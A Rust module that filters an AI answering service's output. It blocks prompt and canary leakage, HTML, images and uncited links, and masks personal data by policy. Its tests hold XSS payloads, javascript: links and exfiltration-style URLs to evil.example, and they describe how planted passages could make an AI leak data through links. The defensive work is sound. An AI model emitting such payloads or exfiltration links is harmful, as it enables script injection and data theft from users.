//! What must not get out in an answer: the prompt, markup, links that no document has, personal data.
//!
//! It works on whole sentences or larger pieces, so an answer can be checked while it arrives; what
//! is cut in the middle of a link or number is not recognised.

use std::{borrow::Cow, sync::LazyLock};

use regex::{Captures, Regex};

use super::{
    Shingles, decode,
    personal::{self, Personal},
};
use crate::{
    ports::Config,
    setting::{SettingFault, choice},
};

/// Variable with the policy on personal data: `off`, `contact` or `strict`.
const POLICY: &str = "pii_policy";

/// Which personal data an answer may hold.
#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
pub enum PersonalPolicy {
    /// Any.
    Off,
    /// Addresses and telephone numbers that stand in the passages, because their owner published
    /// them; no others, and no numbers of cards, accounts or social insurance.
    #[default]
    Contact,
    /// None.
    Strict,
}

impl PersonalPolicy {
    /// Reads `pii_policy`: `off`, `contact` (default) or `strict`.
    ///
    /// # Errors
    /// [`SettingFault`] for any other word.
    pub async fn configured(config: &impl Config) -> Result<Self, SettingFault> {
        let policies = [("off", Self::Off), ("contact", Self::Contact), ("strict", Self::Strict)];
        Ok(choice(config, POLICY, &policies).await?.unwrap_or_default())
    }
}

/// What was found in an answer and taken out.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum Finding {
    /// Words of the prompt.
    Prompt,
    /// The canary.
    Canary,
    /// A tag, comment or script.
    Html,
    /// An image; its address alone would carry data out.
    Image,
    /// A link to an address that no passage has.
    Link,
    /// Personal data against the policy.
    Personal,
}

impl Finding {
    /// Its name in metrics and logs.
    pub fn label(self) -> &'static str {
        match self {
            Self::Prompt => "prompt",
            Self::Canary => "canary",
            Self::Html => "html",
            Self::Image => "image",
            Self::Link => "link",
            Self::Personal => "personal",
        }
    }
}

/// A piece of an answer after the check.
#[derive(Clone, Debug, Eq, PartialEq)]
pub struct Checked<'a> {
    /// What may be shown; empty where the piece gives the prompt away.
    pub text: Cow<'a, str>,
    /// What was found, each kind once, in the order of [`Finding`].
    pub findings: Vec<Finding>,
}

/// The check of one answer.
#[derive(Clone, Debug)]
pub struct Output<'a> {
    secret: &'a Shingles,
    canary: Option<&'a str>,
    policy: PersonalPolicy,
    cited: String,
    addresses: Vec<String>,
    digits: String,
}

impl<'a> Output<'a> {
    /// Creates the check of an answer that rests on `passages`, as they stood in the prompt.
    ///
    /// `secret` has the prompt's words, `canary` a mark that was put into it for no other purpose
    /// than to be recognised here.
    pub fn new(
        secret: &'a Shingles,
        canary: Option<&'a str>,
        passages: &[&str],
        policy: PersonalPolicy,
    ) -> Self {
        let cited = passages.join("\n").to_lowercase();
        let found = ADDRESS.iter().flat_map(|address| address.find_iter(&cited));
        let addresses = found.map(|it| normal(it.as_str())).collect();
        let digits = personal::digits(&cited);
        Self {
            secret,
            canary: canary.filter(|it| !it.is_empty()),
            policy,
            cited,
            addresses,
            digits,
        }
    }

    /// Checks a piece of the answer.
    pub fn check<'t>(&self, piece: &'t str) -> Checked<'t> {
        if let Some(finding) = self.leak(piece) {
            return Checked { text: Cow::Borrowed(""), findings: vec![finding] };
        }
        let mut findings = Vec::new();
        let mut text = Cow::Borrowed(piece);
        text = replace(text, &SCRIPT, &mut findings, |_| Some((Finding::Html, String::new())));
        text = replace(text, &MARKDOWN, &mut findings, |found| self.markdown(found));
        text = replace(text, &TAG, &mut findings, tag);
        text = replace(text, &ADDRESS, &mut findings, |found| {
            let address = found.get(0)?.as_str();
            (!self.is_cited(address)).then(|| (Finding::Link, "(link removed)".to_owned()))
        });
        text = self.without_personal(text, &mut findings);
        findings.sort_by_key(|it| *it as u8);
        findings.dedup();
        Checked { text, findings }
    }

    /// Whether a piece gives the prompt away, in plain words or encoded.
    fn leak(&self, piece: &str) -> Option<Finding> {
        let decoded = decode::parts(piece);
        std::iter::once(piece).chain(decoded.iter().map(String::as_str)).find_map(|text| {
            if self.canary.is_some_and(|canary| text.contains(canary)) {
                return Some(Finding::Canary);
            }
            self.secret.quoted(text, &self.cited).then_some(Finding::Prompt)
        })
    }

    fn markdown(&self, found: &Captures<'_>) -> Option<(Finding, String)> {
        let (image, label) = (found.name("image")?.as_str(), found.name("label")?.as_str());
        if image == "!" {
            return Some((Finding::Image, String::new()));
        }
        if self.is_cited(found.name("target")?.as_str()) {
            return None;
        }
        // `[1](…)` is a citation with a link glued to it.
        let citation = !label.is_empty() && label.bytes().all(|it| it.is_ascii_digit());
        Some((Finding::Link, if citation { format!("[{label}]") } else { label.to_owned() }))
    }

    /// Whether a passage has this address, or one that it is the beginning of. A longer one could
    /// carry data to where a planted passage wants it.
    fn is_cited(&self, address: &str) -> bool {
        let address = normal(&address.to_lowercase());
        if let Some(mail) = address.strip_prefix("mailto:") {
            return self.cited.contains(mail);
        }
        self.addresses.iter().any(|cited| {
            cited
                .strip_prefix(&*address)
                .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
        })
    }

    fn without_personal<'t>(
        &self,
        text: Cow<'t, str>,
        findings: &mut Vec<Finding>,
    ) -> Cow<'t, str> {
        if self.policy == PersonalPolicy::Off {
            return text;
        }
        let mut found = personal::find(&text);
        found.retain(|(place, kind)| !self.is_published(&text[place.clone()], *kind));
        if found.is_empty() {
            return text;
        }
        findings.push(Finding::Personal);
        let mut cleaned = text.into_owned();
        for (place, kind) in found.into_iter().rev() {
            cleaned.replace_range(
                place,
                match kind {
                    Personal::Card => "(card number removed)",
                    Personal::Email => "(e-mail address removed)",
                    Personal::Iban => "(account number removed)",
                    Personal::Phone => "(telephone number removed)",
                    Personal::Ssn => "(insurance number removed)",
                },
            );
        }
        Cow::Owned(cleaned)
    }

    /// Whether a passage has this address or telephone number, and the policy lets it out.
    fn is_published(&self, text: &str, kind: Personal) -> bool {
        self.policy == PersonalPolicy::Contact
            && match kind {
                Personal::Email => self.cited.contains(&text.to_lowercase()),
                Personal::Phone => self.digits.contains(&personal::digits(text)),
                Personal::Card | Personal::Iban | Personal::Ssn => false,
            }
    }
}

/// An address as it is compared: without scheme, `www.` and what a sentence puts behind it.
fn normal(address: &str) -> String {
    let address =
        address.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', '"', '*', '_', '/']);
    let address =
        address.strip_prefix("https:").or(address.strip_prefix("http:")).unwrap_or(address);
    let address = address.trim_start_matches('/');
    address.strip_prefix("www.").unwrap_or(address).to_owned()
}

/// Replaces what `pattern` finds by what `judge` says, which leaves it where it gives nothing.
fn replace<'t>(
    text: Cow<'t, str>,
    pattern: &Option<Regex>,
    findings: &mut Vec<Finding>,
    judge: impl Fn(&Captures<'_>) -> Option<(Finding, String)>,
) -> Cow<'t, str> {
    let Some(pattern) = pattern else { return text };
    let before = findings.len();
    let replaced = pattern.replace_all(&text, |found: &Captures<'_>| match judge(found) {
        Some((finding, substitute)) => {
            findings.push(finding);
            substitute
        }
        None => found.get(0).map_or_else(String::new, |it| it.as_str().to_owned()),
    });
    match replaced {
        Cow::Owned(changed) if findings.len() > before => Cow::Owned(changed),
        _ => text,
    }
}

/// Whether a tag is one, and not a type's parameter such as `Vec<T>` or a comparison.
fn tag(found: &Captures<'_>) -> Option<(Finding, String)> {
    let before = found.name("before").map_or("", |it| it.as_str());
    let inside = found.name("inside").map_or("", |it| it.as_str());
    let name: String = inside.chars().take_while(char::is_ascii_alphanumeric).collect();
    let plain = name.len() == inside.len() && !ACTIVE.contains(&name.to_lowercase().as_str());
    let end = found.name("end").is_some_and(|it| !it.is_empty());
    let parameter = !before.is_empty() && plain && !end;
    let closed = found.get(0).is_some_and(|it| it.as_str().ends_with('>'));
    let comparison = !closed && !end && !inside.contains('=');
    (!parameter && !comparison).then(|| (Finding::Html, before.to_owned()))
}

/// Elements that do something without an attribute.
const ACTIVE: &[&str] =
    &["script", "style", "iframe", "object", "embed", "form", "svg", "math", "base"];

// A pattern that does not compile fails the tests; it never gets here.

/// Scripts and styles with what is in them.
static SCRIPT: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?is)<script\b.*?</script\s*>|<style\b.*?</style\s*>|<!--.*?-->").ok()
});
/// Markdown's links and images.
static MARKDOWN: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?P<image>!?)\[(?P<label>[^\]\n]*)\](?:\(\s*<?(?P<target>[^)\s>]*)[^)\n]*\)?|:\s+(?P<reference>\S+))").ok()
});
/// Tags, and comparisons and type parameters that look like them.
static TAG: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?P<before>[A-Za-z0-9_]?)<(?P<end>[/!?]?)(?P<inside>[A-Za-z][^<>]*)>?").ok()
});
/// Addresses on the web, with a scheme or without.
static ADDRESS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"(?i)(?:\b(?:https?|ftp|wss?)://|\bwww\.)[^\s<>()\[\]"'’”]+"#,
        r#"|\b(?:javascript|vbscript|data:[a-z]+/[a-z]+)[:;][^\s<>()\[\]"]+"#,
        // Without a scheme only names that end like most do, and lead somewhere: `node.js/express`
        // is none.
        r#"|\b(?:[a-z0-9-]+\.)+(?:com|org|net|io|dev|app|co|ai|info|me|xyz|ru|cn|top|site|online|example|test|de|fr|es|uk|eu|ch|at|nl|be|it|pl)/[^\s<>()\[\]"'’”]+"#,
    ))
    .ok()
});

#[cfg(test)]
mod tests {
    use futures::executor::block_on;

    use super::*;
    use crate::{
        answer::{REFUSAL, prompt::RULES},
        fakes::MapConfig,
    };

    const PASSAGE: &str = "Elena: https://elena.example.org/projects/tide, elena@example.org, \
                           +32 9 555 01 23. She wrote http://papers.example/a?id=7.";

    fn check(piece: &str, expected: &str, findings: &[Finding]) {
        let secret = Shingles::of(RULES, &[REFUSAL]);
        let output = Output::new(&secret, Some("zq7-canary"), &[PASSAGE], PersonalPolicy::Contact);
        let checked = output.check(piece);
        assert_eq!((&*checked.text, &checked.findings[..]), (expected, findings), "{piece}");
        assert_eq!(output.check(expected).findings, [], "twice: {piece}");
    }

    fn passes(piece: &str) {
        check(piece, piece, &[]);
    }

    #[test]
    fn every_pattern_compiles() {
        assert!([&SCRIPT, &MARKDOWN, &TAG, &ADDRESS].iter().all(|it| it.is_some()));
    }

    #[test]
    fn the_prompt_stays_inside() {
        check(
            "My rules: say only what the excerpts say, do not add anything.",
            "",
            &[Finding::Prompt],
        );
        check("The mark is zq7-canary.", "", &[Finding::Canary]);
        check("U2F5IG9ubHkgd2hhdCB0aGUgZXhjZXJwdHMgc2F5LiBEbyBub3QgYWRk", "", &[Finding::Prompt]);
        passes(REFUSAL);
        passes("She wrote the rules of the lab and did not speak of them [1].");
    }

    #[test]
    fn markup_is_taken_out() {
        check("She <b>won</b>.", "She won.", &[Finding::Html]);
        check("<script>alert(1)</script>She won.", "She won.", &[Finding::Html]);
        check("a<script>b</script>", "a", &[Finding::Html]);
        check("<img src=x onerror=alert(1)> ok", " ok", &[Finding::Html]);
        check("ok <img src=x onerror=alert(1)", "ok ", &[Finding::Html]);
        check("<!-- x --><iframe>", "", &[Finding::Html]);
        check("x<iframe>", "x", &[Finding::Html]);
        passes("Vec<String>, List<T> and x <y, i < 3 > 2 [1].");
        passes("C#, a*b, snake_case [2].");
    }

    #[test]
    fn links_lead_to_what_is_cited() {
        passes("See https://elena.example.org/projects/tide.");
        passes("See [her page](https://elena.example.org/projects).");
        passes("Her site is elena.example.org/projects, or http://papers.example/a?id=7 [1].");
        check("![p](https://elena.example.org/projects)", "", &[Finding::Image]);
        check("![p](//evil.example/a.gif?q=1) ok", " ok", &[Finding::Image]);
        let removed = "See (link removed)";
        check("See https://evil.example/x", removed, &[Finding::Link]);
        check("See https://elena.example.org/projects/tide/secret", removed, &[Finding::Link]);
        check("See https://elena.example.org/projects?q=secret", removed, &[Finding::Link]);
        check("See https://elena.example.org.evil.example/projects", removed, &[Finding::Link]);
        check("See www.evil.example/x", removed, &[Finding::Link]);
        check("See evil.example/x", removed, &[Finding::Link]);
        check("See javascript:alert(1)", "See (link removed)(1)", &[Finding::Link]);
        check("[more](http://evil.example/?d=1)", "more", &[Finding::Link]);
        check("won it [1](javascript:fetch('//evil.example'))", "won it [1])", &[Finding::Link]);
        check("[a](data:text/html;base64,PHN2Zz4=)", "a", &[Finding::Link]);
        passes("Node.js/Express, and/or, 1.5/2.0, e.g. [1][2] and [list].");
    }

    #[test]
    fn personal_data_by_policy() {
        passes("Write to elena@example.org or call +32 9 5550123 [1].");
        check(
            "Write to eve@evil.example.",
            "Write to (e-mail address removed).",
            &[Finding::Personal],
        );
        check("Call (555) 010-7788.", "Call (telephone number removed).", &[Finding::Personal]);
        check(
            "4111 1111 1111 1111 and 219-09-9999",
            "(card number removed) and (insurance number removed)",
            &[Finding::Personal],
        );
        let secret = Shingles::default();
        let findings = |policy, piece: &str| {
            Output::new(&secret, None, &[PASSAGE], policy).check(piece).findings
        };
        assert_eq!(findings(PersonalPolicy::Strict, "elena@example.org"), [Finding::Personal]);
        assert_eq!(findings(PersonalPolicy::Off, "4111 1111 1111 1111"), []);
    }

    #[test]
    fn several_findings_are_named_once_each() {
        check(
            "<b>a</b> <i>b</i> http://evil.example/ eve@evil.example",
            "a b (link removed) (e-mail address removed)",
            &[Finding::Html, Finding::Link, Finding::Personal],
        );
    }

    #[test]
    fn policy_is_configured() {
        let read = |value: &str| {
            block_on(PersonalPolicy::configured(&MapConfig(
                [(POLICY.to_owned(), value.to_owned())].into(),
            )))
        };
        assert_eq!(read(""), Ok(PersonalPolicy::Contact));
        assert_eq!(read("off"), Ok(PersonalPolicy::Off));
        assert_eq!(read("strict"), Ok(PersonalPolicy::Strict));
        assert!(
            read("some").unwrap_err().to_string().contains("pii_policy: expected off, contact")
        );
    }
}
